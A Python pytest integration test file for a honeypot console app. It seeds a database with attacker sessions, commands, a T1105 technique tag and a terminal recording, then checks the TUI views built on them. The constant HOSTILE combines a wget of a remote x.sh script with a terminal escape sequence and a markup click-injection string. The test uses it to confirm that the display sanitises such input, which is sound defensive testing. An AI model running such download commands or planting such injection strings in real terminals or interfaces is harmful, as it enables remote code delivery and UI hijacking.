"""Actors and coverage over a real database: down to a command, its tags and its recording, and back."""

from __future__ import annotations

import struct
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from decnet.db.repository import BaseRepository
from decnet.db.tables import TTPTag
from decnet.ids import attacker_id
from decnet_tui.app import DecnetApp
from tests.consolekit import FakeSession, screen_text
from tests.dbkit import open_repo
from tests.integration.test_console_app import SETTINGS

IP = "203.0.113.7"
A = attacker_id(IP)
HOSTILE = "wget http://203.0.113.9/x.sh\x1b]0;owned\x07[@click=app.quit]x[/]"
HEADER = struct.Struct("<iLiiLL")


def recording(*outputs: tuple[int, bytes]) -> bytes:
    return b"".join(HEADER.pack(3, 0, len(data), 2, ts, 0) + data for ts, data in outputs)


@pytest.fixture
async def repo(tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo("sqlite", tmp_path) as made:
        for number in range(2):
            ip = f"203.0.113.{7 + number}"
            await made.upsert_attackers([(attacker_id(ip), ip, 1000.0 + number)])
            await made.form_identities([attacker_id(ip)])
        payload = {"session_id": "s1", "attacker_uuid": A, "attacker_ip": IP, "decky_id": "web-01", "service": "ssh",
                   "started_at": 1000.0, "ended_at": 1030.0, "duration_s": 30.0, "command_count": 2, "part": 1, "parts": 1,
                   "end_reason": "closed", "client": {"size": "80x24"}, "auth": {}, "keystrokes_ref": "k1"}  # fmt: skip
        await made.upsert_session(payload)
        commands = [
            {"id": "c1", "command_text": HOSTILE, "ts": 1001.0},
            {"id": "c2", "command_text": "echo hi", "ts": 1020.0},
        ]
        await made.insert_commands("s1", commands)
        await made.upsert_recording(
            "k1", "s1", recording((1000, b"motd\n"), (1001, b"$ wget\n"), (1020, b"hi\n"))
        )
        evidence = {"field": "command_text", "matched": "wget http", "span": [0, 9], "view": "command"}
        tag = TTPTag(source_kind="command", source_id="c1", attacker_uuid=A, session_id="s1", tactic="TA0011", technique_id="T1105",
                     confidence=0.85, rule_id="R0002", rule_version=1, evidence=evidence)  # fmt: skip
        await made.insert_tags([tag])
        yield made


def app_on(repo: BaseRepository | None) -> DecnetApp:
    session = FakeSession()
    session.repo = repo
    return DecnetApp(SETTINGS, session=session)


async def shows(app: DecnetApp, pilot: Any, *words: str) -> str:
    """The screen once all words stand on it."""
    for _ in range(100):
        text = "\n".join(screen_text(app))
        if all(word in text for word in words):
            return text
        await pilot.pause(0.05)
    raise AssertionError(f"{words} not on:\n{text}")


@pytest.mark.parametrize("size", [(80, 24), (160, 48)])
async def test_from_an_actor_to_the_command_its_tag_and_its_recording(
    repo: BaseRepository, size: tuple[int, int]
) -> None:
    app = app_on(repo)
    async with app.run_test(size=size) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP, "203.0.113.8")
        app.open_in("actors", A)
        await pilot.press("enter")
        await shows(app, pilot, f"{IP} ", "web-01", "Enter: commands")
        await pilot.press("enter")
        text = await shows(app, pilot, "session s1", "echo hi", "T1105")
        assert "\x1b" not in text
        await pilot.press("g", "enter")
        await shows(app, pilot, "Ingress Tool Transfer", "rule R0002", "0-9", "[@click=app.quit]")
        await pilot.press("escape", "w")
        await shows(app, pilot, "recording", "motd")
        await pilot.press("n")
        await shows(app, pilot, "$ wget", "tagged command at 1970-01-01 00:16:41")
        await pilot.press("greater_than_sign")
        await shows(app, pilot, "speed 2x")
        for _ in range(3):
            await pilot.press("escape")
        await shows(app, pilot, "203.0.113.8", "Enter: sessions")
        assert not app.view.opened


async def test_compare_rules_and_traffic_of_an_actor(repo: BaseRepository) -> None:
    app = app_on(repo)
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP)
        await pilot.press("g", "space", "G", "equals_sign")
        await shows(app, pilot, "technique_count", "T1105 Ingress Tool Transfer", "yes", "no")
        await pilot.press("escape")
        app.view.go_to(A)
        await pilot.press("o")
        await shows(app, pilot, "rules on 203.0.113.7", "R0002", "wget http")


@pytest.mark.parametrize("size", [(80, 24), (160, 48)])
async def test_coverage_leads_to_the_tags_and_to_the_session(
    repo: BaseRepository, size: tuple[int, int]
) -> None:
    app = app_on(repo)
    async with app.run_test(size=size) as pilot:
        await pilot.press("7")
        await shows(app, pilot, "1 techniques  1 tags", "T1105")
        lines = screen_text(app)
        assert all(len(line) == size[0] for line in lines)
        assert app.view.record()["technique"] == "T1105"
        await pilot.press("enter")
        await shows(app, pilot, "R0002", "wget http")
        await pilot.press("enter")
        await shows(app, pilot, "session s1", "echo hi")
        await pilot.press("escape", "escape", "right")
        await shows(app, pilot, "Exfil")
        assert app.view.record()["technique"] != "T1105"
        await pilot.press("s", "s", "s")
        await shows(app, pilot, "24h", "view 6 shows whether the sensors read")


async def test_without_a_database_the_views_say_so() -> None:
    app = app_on(None)
    async with app.run_test(size=(80, 24)) as pilot:
        for key in "37":
            await pilot.press(key)
            await shows(app, pilot, "--db")
